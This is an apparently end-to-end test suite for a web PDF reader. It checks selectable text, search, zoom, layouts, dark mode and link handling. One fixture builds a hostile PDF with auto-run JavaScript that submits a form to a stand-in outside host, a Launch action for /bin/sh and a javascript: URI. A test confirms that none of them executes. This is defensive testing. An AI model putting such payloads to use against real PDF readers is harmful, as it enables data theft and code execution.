// The PDF reader: selectable and searchable text, outline, links, zoom; and no active content is executed.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { makePdf } from '@lectern/server/testing';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeGuide, pdfFont, pdfLink, say } from '../harness/books/pdfs.ts';
import { openBook, readPlace, showBars } from '../harness/books/reading.ts';
import { findBook as find } from '../harness/books/shelf.ts';
import { expectAccessible } from '../harness/browser/accessibility.ts';
import { pinch } from '../harness/browser/touch.ts';
import { desk, fillSignIn, phone, show, startWeb, type Visit, type Web } from '../harness/browser/web.ts';

const corpus =
  process.env.LECTERN_CORPUS ?? fileURLToPath(new URL('../../../../shared/corpus', import.meta.url));
const real = join(corpus, 'Documents/Debian/Debian FAQ.pdf');

/** Active content that other readers execute: on opening, on a page, by a click, in a form. */
const makeHostile = () => {
  const script = (text: string) => `/S/JavaScript/JS(${text})`;
  const call = "app.alert\\('run'\\); this.submitForm\\('http://elsewhere.example/take'\\);";
  return makePdf({
    catalog: `/OpenAction<<${script(call)}>>/AA<</WC<<${script(call)}>>>>`,
    pages: [
      {
        resources: pdfFont,
        content: say('A page that would like to run something'),
        annotations: [
          pdfLink(200, script(call)),
          pdfLink(100, '/S/Launch/F(/bin/sh)'),
          `<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(b)/Rect[20 20 280 60]/A<<${script(call)}>>>>`,
          pdfLink(150, "/S/URI/URI(javascript:document.title='run')"),
        ].join(''),
      },
      { resources: pdfFont, content: say('The second page of it, which is harmless') },
    ],
  });
};

describe('the PDF reader', () => {
  let web: Web;

  beforeAll(async () => {
    web = await startWeb({
      files: {
        'Guide/Guide 1.pdf': makeGuide(12),
        'Phone/Phone 1.pdf': makeGuide(12),
        'Spread/Spread 1.pdf': makeGuide(7),
        'Dark/Dark 1.pdf': makeGuide(3),
        'Size/Size 1.pdf': makeGuide(12),
        'Looked/Looked 1.pdf': makeGuide(12),
        'Hostile/Hostile 1.pdf': makeHostile(),
        'Comic/Comic 1.pdf': makePdf({ pages: [{}, {}, {}, {}] }),
        'Broken/Broken 1.pdf': makePdf({ pages: [{}, {}] }),
        ...(existsSync(real) && { 'Debian/Debian FAQ.pdf': readFileSync(real) }),
      },
    });
  }, 120_000);

  afterAll(() => web?.end());

  const findBook = (end: string) => find(web.admin, end);
  const read = async (end: string, visit: Visit = {}): Promise<Page> =>
    openBook(web, await findBook(end), visit);
  /** "2 / 12", with or without the bars. */
  const isAt = (page: Page, text: string) =>
    page.locator(`[role=region][data-page="${text.split(' / ')[0]}"]`).waitFor();
  const text = (page: Page, number: number) => page.locator(`.page[data-page-number="${number}"] .textLayer`);

  test('shows selectable text, and restores the position', async () => {
    const book = await findBook('Guide 1.pdf');
    const page = await read('Guide 1.pdf');
    await isAt(page, '1 / 12');
    await text(page, 1).getByText('This is page 1 of the guide').waitFor();
    await text(page, 1).getByText('This is page 1 of the guide').selectText();
    expect(await page.evaluate('getSelection().toString()')).toContain('This is page 1 of the guide');
    await expectAccessible(page);
    await show(page, 'pdf text');
    await page.keyboard.press('ArrowRight');
    await isAt(page, '2 / 12');
    await expect.poll(() => readPlace(web, book)).toBe(2);
    await showBars(page);
    await page.getByRole('button', { name: '2 / 12' }).click();
    await page.getByRole('textbox', { name: 'Page' }).fill('9');
    await page.keyboard.press('Enter');
    await isAt(page, '9 / 12');
    await expect.poll(() => readPlace(web, book)).toBe(9);
    await page.goto('about:blank');
    await page.goto(`${web.base}/books/${book.id}/read`);
    await isAt(page, '9 / 12');
    await text(page, 9).getByText('This is page 9').waitFor();
  });

  test('enters full screen by key and button, with its panels, and leaves it', async () => {
    const page = await openBook(web, await findBook('Guide 1.pdf'), { search: '?page=1' });
    const isFull = () => page.evaluate('document.fullscreenElement !== null');
    await text(page, 1).getByText('This is page 1').waitFor();
    await page.getByRole('button', { name: 'Full screen' }).click();
    await expect.poll(isFull).toBe(true);
    await page.getByRole('button', { name: 'Contents' }).click();
    await page.getByRole('dialog', { name: 'Contents' }).getByRole('button', { name: 'End' }).click();
    await isAt(page, '3 / 12');
    await page.getByRole('button', { name: 'Exit full screen' }).click();
    await expect.poll(isFull).toBe(false);
    await page.keyboard.press('f');
    await expect.poll(isFull).toBe(true);
    await page.getByRole('button', { name: 'Close book' }).click();
    await expect.poll(isFull).toBe(false);
  });

  test('searches the whole document', async () => {
    const page = await read('Guide 1.pdf', {});
    await page.keyboard.press('/');
    await page.keyboard.type('heron');
    await page.getByText('1 of 1').waitFor();
    await isAt(page, '7 / 12');
    await page.locator('.highlight.selected').waitFor();
    await show(page, 'pdf search');
    await expectAccessible(page);
    await page.getByRole('searchbox').fill('nobody');
    await page.getByText('of 11').waitFor();
    await page.getByRole('listitem').filter({ hasText: 'Page 9' }).getByRole('button').click();
    await isAt(page, '9 / 12');
    await page.getByRole('searchbox').fill('zebra');
    await page.getByText('No results').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('searchbox').waitFor({ state: 'detached' });
  });

  test('shows whole pages by default, and has zoom buttons, also on a phone', async () => {
    for (const viewport of [desk, phone]) {
      const page = await read('Size 1.pdf', { viewport });
      const size = async () => {
        const box = await page.locator('.page[data-page-number="1"]').boundingBox();
        return { width: Math.round(box?.width ?? 0), height: Math.round(box?.height ?? 0) };
      };
      const room = await page.getByRole('region', { name: 'Size 1' }).boundingBox();
      await expect.poll(async () => (await size()).height).toBeGreaterThan(200);
      const whole = await size();
      expect(whole.height).toBeLessThanOrEqual(room?.height ?? 0);
      const button = (name: string) =>
        page.getByRole('group', { name: 'Zoom' }).getByRole('button', { name, exact: true });
      expect(await button('Fit page').getAttribute('aria-pressed')).toBe('true');
      await show(page, `pdf whole page ${viewport.width}`);
      await expectAccessible(page);
      await button('Zoom in').click();
      await expect.poll(async () => (await size()).width).toBeGreaterThan(whole.width * 1.15);
      expect(await button('Fit page').getAttribute('aria-pressed')).toBe('false');
      await button('Zoom out').click();
      await button('Fit width').click();
      await expect.poll(async () => (await size()).width).toBeGreaterThan(viewport.width - 40);
      await button('Fit page').click();
      // pdf.js rounds each size separately.
      await expect.poll(async () => Math.abs((await size()).width - whole.width)).toBeLessThan(3);
      // Remembered on this device.
      await button('Fit width').click();
      await page.reload();
      await expect.poll(async () => (await size()).width).toBeGreaterThan(viewport.width - 40);
    }
  });

  test('keeps the position while the user looks at search results, and leads back to it', async () => {
    const book = await findBook('Looked 1.pdf');
    const page = await read('Looked 1.pdf');
    await isAt(page, '1 / 12');
    await page.keyboard.press('ArrowRight');
    await expect.poll(() => readPlace(web, book)).toBe(2);
    const find = async () => {
      await page.keyboard.press('/');
      await page.keyboard.type('heron');
      await isAt(page, '7 / 12');
      await page.getByRole('searchbox').press('Escape');
    };
    await find();
    const back = page.getByRole('button', { name: 'Back to my position' });
    await back.waitFor();
    await show(page, 'pdf way back');
    await expectAccessible(page);
    await back.click();
    await isAt(page, '2 / 12');
    await back.waitFor({ state: 'detached' });
    await find();
    await showBars(page);
    await page.getByRole('button', { name: 'Close book' }).click();
    await page.waitForURL(`${web.base}/books/${book.id}`);
    expect(await readPlace(web, book)).toBe(2);
    await page.getByRole('link', { name: 'Continue p. 2' }).click();
    await isAt(page, '2 / 12');
    await find();
    await page.keyboard.press('ArrowRight');
    await isAt(page, '8 / 12');
    await expect.poll(() => readPlace(web, book)).toBe(8);
    await find();
    await page.getByRole('button', { name: 'Stay here' }).click();
    await expect.poll(() => readPlace(web, book)).toBe(7);
  });

  test('shows two pages side by side with the cover alone, and turns both', async () => {
    const page = await openBook(web, await findBook('Spread 1.pdf'), { search: '?page=1' });
    await text(page, 1).getByText('This is page 1').waitFor();
    await page.getByRole('button', { name: 'Appearance' }).click();
    await page.getByRole('combobox', { name: 'Scrolling' }).selectOption('Page by page');
    await page.getByRole('combobox', { name: 'Layout' }).selectOption('Double page, cover alone');
    await page.getByRole('dialog').getByRole('button', { name: 'Close', exact: true }).click();
    const seen = () =>
      page
        .locator('.pdfViewer .page:visible')
        .evaluateAll((pages: { dataset: { pageNumber: string } }[]) =>
          pages.map(({ dataset }) => Number(dataset.pageNumber)),
        );
    await expect.poll(seen).toEqual([1]);
    await page.keyboard.press('ArrowRight');
    await expect.poll(seen).toEqual([2, 3]);
    const [left, right] = await Promise.all(
      [2, 3].map((number) => page.locator(`.page[data-page-number="${number}"]`).boundingBox()),
    );
    expect(left?.y).toBe(right?.y);
    expect((left?.x ?? 0) + (left?.width ?? 0)).toBeLessThanOrEqual(right?.x ?? 0);
    await show(page, 'pdf two pages');
    await page.keyboard.press('ArrowRight');
    await expect.poll(seen).toEqual([4, 5]);
    await page.keyboard.press('ArrowLeft');
    await expect.poll(seen).toEqual([2, 3]);
    await page.keyboard.press('ArrowLeft');
    await expect.poll(seen).toEqual([1]);
    await page.reload();
    await expect.poll(seen).toEqual([1]);
    await page.keyboard.press('ArrowRight');
    await expect.poll(seen).toEqual([2, 3]);
  });

  test('shows white paper in dark mode, dimmed, and remembers it', async () => {
    const page = await openBook(web, await findBook('Dark 1.pdf'), { search: '?page=1' });
    await text(page, 1).getByText('This is page 1').waitFor();
    await page.getByRole('button', { name: 'Appearance' }).click();
    await page.getByRole('radio', { name: 'Sepia' }).check();
    const paper = "getComputedStyle(document.querySelector('.canvasWrapper')).filter";
    await expect.poll(() => page.evaluate(paper)).toBe('sepia(0.45) brightness(0.96)');
    await page.getByRole('radio', { name: 'Dark' }).check();
    await page.getByRole('slider', { name: 'Brightness' }).press('Home');
    const region = page.getByRole('region', { name: 'Dark 1' });
    const filters = async () => [
      await page.evaluate("getComputedStyle(document.querySelector('.canvasWrapper')).filter"),
      await page.evaluate("getComputedStyle(document.querySelector('[role=region]')).filter"),
    ];
    await expect.poll(filters).toEqual(['invert(0.9) hue-rotate(180deg)', 'brightness(0.3)']);
    await page.getByRole('slider', { name: 'Brightness' }).press('End');
    await expectAccessible(page);
    await show(page, 'pdf dark');
    await page.reload();
    await text(page, 1).getByText('This is page 1').waitFor();
    expect(await region.getAttribute('data-color')).toBe('dark');
    expect(await filters()).toEqual(['invert(0.9) hue-rotate(180deg)', 'none']);
  });

  test('follows outline entries and internal links, and asks before external ones', async () => {
    const { id } = await findBook('Guide 1.pdf');
    const page = await read('Guide 1.pdf');
    await page.getByRole('button', { name: 'Contents' }).click();
    await page.getByRole('dialog', { name: 'Contents' }).waitFor();
    await expectAccessible(page);
    await show(page, 'pdf contents');
    await page.getByRole('button', { name: 'End' }).click();
    await isAt(page, '3 / 12');
    await page.goto(`${web.base}/books/${id}/read?page=1`);
    await isAt(page, '1 / 12');
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    // The question about another device does not cover the dialog.
    await web.admin.put(`/api/v1/books/${id}/progress`, { currentPage: 9, deviceId: 'elsewhere' });
    await page.getByRole('button', { name: 'Stay here' }).waitFor();
    await page.getByRole('button', { name: 'External link: http://elsewhere.example/page' }).click();
    await page.getByRole('dialog').getByText('http://elsewhere.example/page').waitFor();
    await expectAccessible(page);
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
    await page.getByRole('button', { name: 'Stay here' }).click();
    await page.getByRole('button', { name: 'Link within this document' }).first().click();
    await isAt(page, '3 / 12');
    expect(requests.filter((url) => !url.startsWith(web.base) && !/^(blob|data):/.test(url))).toEqual([]);
  });

  test('is read on a phone: single pages or continuous scroll, with pinch zoom', async () => {
    const page = await read('Phone 1.pdf', { viewport: phone });
    await text(page, 1).getByText('This is page 1').waitFor();
    const width = async () =>
      Math.round((await page.locator('.page[data-page-number="1"]').boundingBox())?.width ?? 0);
    const fitting = await width();
    expect(fitting).toBeGreaterThan(350);
    expect(fitting).toBeLessThan(391);
    await pinch(page, [195, 300], [60, 150]);
    await expect.poll(width).toBeGreaterThan(fitting * 2);
    await page.getByRole('button', { name: 'Appearance' }).tap();
    await page.getByRole('dialog', { name: 'Appearance' }).waitFor();
    await expectAccessible(page);
    await show(page, 'pdf view on a phone');
    await page.getByRole('combobox', { name: 'Scrolling' }).selectOption('Page by page');
    await page.getByRole('dialog').getByRole('button', { name: 'Close', exact: true }).tap();
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    await expect.poll(() => page.locator('.pdfViewer .page:visible').count()).toBe(1);
    await page.getByRole('button', { name: 'Next page' }).tap();
    await isAt(page, '2 / 12');
    await text(page, 2).getByText('This is page 2').waitFor();
  });

  test('executes no active content and sends no external request', async () => {
    const { id } = await findBook('Hostile 1.pdf');
    const page = await web.open();
    const requests: string[] = [];
    const dialogs: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${web.base}/books/${id}/read`);
    await fillSignIn(page, 'admin');
    await text(page, 1).getByText('A page that would like').waitFor();
    await page.locator('.page[data-page-number="1"] .annotationLayer').waitFor({ state: 'attached' });
    for (const annotation of await page.locator('.annotationLayer section a').all())
      await annotation.click({ force: true });
    await page.keyboard.press('Escape');
    await page.mouse.click(640, 700);
    expect(dialogs).toEqual([]);
    expect(await page.title()).not.toBe('run');
    expect(requests.filter((url) => !url.startsWith(web.base) && !/^(blob|data):/.test(url))).toEqual([]);
    expect(requests.filter((url) => /sandbox|quickjs|[.]wasm/.test(url))).toEqual([]);
  });

  test('loads only the visible ranges, not the whole file', async ({ skip }) => {
    if (!existsSync(real)) skip();
    const book = await findBook('Debian FAQ.pdf');
    const page = await web.open();
    const ranges: string[] = [];
    page.on('response', (response) => {
      if (response.url().endsWith('/file')) ranges.push(`${response.status()}`);
    });
    await page.goto(`${web.base}/books/${book.id}/read`);
    await fillSignIn(page, 'admin');
    await text(page, 1).getByText('Debian').first().waitFor();
    expect(new Set(ranges)).toEqual(new Set(['206']));
    await show(page, 'pdf real');
  });

  test('shows comics as images drawn by the server unless the user chooses otherwise', async () => {
    const page = await read('Comic 1.pdf');
    await page.locator('[dir]:not([data-ahead]) [data-state=there]').waitFor();
    await page.keyboard.press('ArrowRight');
    await page.getByText('2 / 4', { exact: true }).waitFor();
    await showBars(page);
    await page.getByRole('button', { name: 'Show text and links' }).click();
    await page.locator('.pdfViewer .page').first().waitFor();
    await isAt(page, '2 / 4');
    await page.getByRole('button', { name: 'Appearance' }).click();
    await page.getByRole('button', { name: 'Show pages as images' }).click();
    await page.locator('[dir]:not([data-ahead]) [data-page="2"]').waitFor();
  });

  test('falls back to images if the file cannot be loaded', async () => {
    const { id } = await findBook('Broken 1.pdf');
    const page = await web.open({ allow: /Failed to load resource/ });
    await page.route('**/file', (route) =>
      route.fulfill({ status: 403, json: { error: 'forbidden', message: 'No' } }),
    );
    await page.goto(`${web.base}/books/${id}/read`);
    await fillSignIn(page, 'admin');
    await page.getByText('Pages are shown as images.').waitFor();
    await page.locator('[dir]:not([data-ahead]) [data-state=there]').waitFor();
  });

  test.each(['light', 'dark'] as const)('is accessible on phone and desktop, %s', async (colorScheme) => {
    for (const viewport of [desk, phone]) {
      const page = await read('Guide 1.pdf', { viewport, context: { colorScheme } });
      await page.locator('.textLayer').first().waitFor();
      await expectAccessible(page);
      await show(page, `pdf ${colorScheme} ${viewport.width}`);
    }
  });
});
